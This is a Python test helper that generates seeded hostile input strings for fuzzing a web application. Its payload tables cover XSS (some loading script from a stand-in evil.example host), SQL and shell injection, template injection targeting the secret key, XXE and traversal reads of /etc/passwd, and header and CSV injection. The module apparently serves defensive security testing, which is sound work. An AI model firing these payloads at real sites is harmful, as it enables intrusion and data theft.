"""Hostile strings without end, the same for a seed: what people try who mean a site ill.

A string is a core (something that would run, lead away or break a parser), put into a context that
it tries to leave, and then often bent: cut, doubled, encoded, its letters changed. Whatever would
run calls `owned()`, so that a browser can tell.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random
from urllib.parse import quote

MARK = "owned"

# Run where markup is believed. Old and new elements, each by another way to a script.
MARKUP = (
    "<script>owned()</script>",
    "<script src=//evil.example/owned.js></script>",
    "<ScRiPt/x>owned()</sCrIpT >",
    "<img src=x onerror=owned()>",
    '<img/src="x"/onerror=owned()//',
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<body onload=owned()>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()>",
    "<marquee onstart=owned()>",
    '<a href="javascript:owned()">here</a>',
    '<a href="&#106;avascript:owned()">here</a>',
    '<a href="java\tscript:owned()">here</a>',
    '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
    "<iframe src=javascript:parent.owned()>",
    "<object data=javascript:owned()>",
    "<embed src=javascript:owned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()>",
    '<noscript><p title="</noscript><img src=x onerror=owned()>">',
    "<form action=//evil.example/owned><button>Log in</button></form>",
    "<button form=comment-form formaction=//evil.example/owned>Post</button>",
    "<base href=//evil.example/owned/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/owned'>",
    "<link rel=stylesheet href=//evil.example/owned.css>",
    "<style>@import '//evil.example/owned.css';</style>",
    "<p style=background:url(//evil.example/owned)>",
    "<template shadowrootmode=open><img src=x onerror=owned()></template>",
    "<![CDATA[<script>owned()</script>]]>",
    "<!--[if gte IE 4]><script>owned()</script><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;owned</x>",
)
# Believed by something else than a browser.
_OTHERS = (
    "javascript:owned()",
    "JaVaScRiPt\x01:owned()",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned()",
    'https://example.org/"onmouseover="owned()',
    "https://example.org/'><img src=x onerror=owned()>",
    "https://example.org/#</a><script>owned()</script>",
    "//evil.example/owned",
    "/\\evil.example/owned",
    "https:evil.example/owned",
    "{{ settings.SECRET_KEY }}owned",
    "{% debug %}{% include '/etc/passwd' %}owned",
    "${7*7}#{7*7}<%= 7*7 %>owned",
    "{0.__class__.__mro__}owned",
    "%(asctime)s%n%s%x owned",
    "owned' OR '1'='1' --",
    'owned"; DROP TABLE accounts_user; --',
    "owned') UNION SELECT password FROM accounts_user --",
    "owned\r\nSet-Cookie: owned=1\r\n\r\n<script>owned()</script>",
    "owned\nWARNING django.security: forged line",
    "../../../../etc/passwd\0owned.png",
    "..%2f..%2f..%2fetc%2fpasswd%00owned",
    "; cat /etc/passwd # owned",
    "$(touch owned)`touch owned`",
    "=cmd|'/c owned'!A1",
    '{"__proto__": {"owned": true}}',
    "constructor.prototype.owned",
)
# What no field expects.
_ODD = (
    "\0owned\0",
    "owned\x1b[2J\x07\x08\x7f\x9b",
    "\ud800owned\udfff",
    "\ufeffowned\ufffe\uffff",
    "\u202eowned\u2066\u200f",
    "owned" + "\u0301\u0489" * 40,
    "\u2028owned\u2029",
    "ﷺ" * 60 + "owned",
    "İıſßŉǰΐ owned",
    "👩‍👩‍👧‍👦🏳️‍⚧️ owned",
    "owned" + "a" * 1900,
    "<" * 300 + "owned" + ">" * 300,
    "<b>" * 150 + "owned",
    "(((((" * 60 + "owned",
    "&" * 200 + "owned;",
    "owned " * 200,
    " " * 300 + "owned",
    "\n" * 200 + "owned",
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "²³",
    "٣٤",
    "0x7fffffffffffffff",
    "9223372036854775808",
    "-9223372036854775809",
    "0000-00-00T99:99",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "owned@example.com\nBcc: everybody@example.com",
    '"owned"@example.com',
    "owned,owned,owned",
    "None",
    "null",
    "on",
    "[]",
)
# What the string may stand in, and try to leave.
_EXITS = (
    "", '"', "'", '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "-->",
    "]]>", "</p></div>", "</bdi></blockquote>", "</option></select>", "\\", '\\"', "\u2028",
    '" autofocus onfocus=owned() x="', "' onmouseover=owned() x='", "&quot;&gt;", "&#34;&#62;",
    "%22%3E", "\u201d>", "＂＞",
)  # fmt: skip


def hostile(count: int, seed: int = 2019) -> Iterator[str]:
    """So many different strings: first every core by itself, then cores in contexts, bent."""
    random = Random(seed)  # noqa: S311 - attacks need no secret
    cores = (*MARKUP, *_OTHERS, *_ODD)
    yield from cores[:count]
    given = set(cores)
    while len(given) < count:
        text = _made(random, cores)
        if text not in given:
            given.add(text)
            yield text


def _made(random: Random, cores: tuple[str, ...]) -> str:
    text = random.choice(_EXITS) + random.choice(cores)
    if random.random() < 0.3:
        text += random.choice(_EXITS) + random.choice(cores)
    for _ in range(random.choice((0, 0, 1, 1, 2, 3))):
        text = random.choice(_BENDS)(text, random)
    return text[:4000]


def _cut(text: str, random: Random) -> str:
    return text[: random.randrange(1, len(text) + 1)]


def _strewn(text: str, random: Random) -> str:
    """Signs that some parsers skip, inside words."""
    sign = random.choice("\0\t\n\r\f\x0b\xa0\xad\u200b\u2060\ufeff/")
    at = random.randrange(len(text) + 1)
    return text[:at] + sign + text[at:]


def _cased(text: str, random: Random) -> str:
    return "".join(random.choice((sign.lower(), sign.upper())) for sign in text)


def _entities(text: str, random: Random) -> str:
    form = random.choice(("&#{};", "&#{}", "&#x{:x};", "&#0000{};"))
    return "".join(form.format(ord(sign)) if sign in "<>\"'&:" else sign for sign in text)


def _percent(text: str, random: Random) -> str:
    once = quote(text, errors="replace")
    return once if random.random() < 0.5 else quote(once)


def _fullwidth(text: str, random: Random) -> str:
    """As they become markup again where somebody normalizes after escaping."""
    return text.translate({ord(sign): chr(ord(sign) + 0xFEE0) for sign in "<>\"'=():/"})


def _embedded(text: str, random: Random) -> str:
    """In words, so that a comment or a headline looks like one."""
    return f"The council met on Monday. {text} Forty people spoke."


def _torn(text: str, random: Random) -> str:
    """As it is put together again where somebody strips words once."""
    return text.replace("script", "scr<script>ipt").replace("on", "oonn", 1)


_BENDS: tuple[Callable[[str, Random], str], ...] = (
    _cut, _strewn, _strewn, _cased, _entities, _percent, _fullwidth, _embedded, _embedded, _torn,
)  # fmt: skip
